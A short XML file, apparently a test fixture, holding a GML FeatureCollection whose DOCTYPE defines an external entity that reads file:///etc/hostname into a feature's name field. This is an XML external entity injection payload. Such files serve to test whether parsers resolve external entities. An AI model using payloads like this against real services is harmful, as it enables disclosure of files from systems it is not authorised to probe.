<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/hostname">]>
<gml:FeatureCollection xmlns:gml="http://www.opengis.net/gml"><gml:featureMember><Plot><name>&f;</name></Plot></gml:featureMember></gml:FeatureCollection>
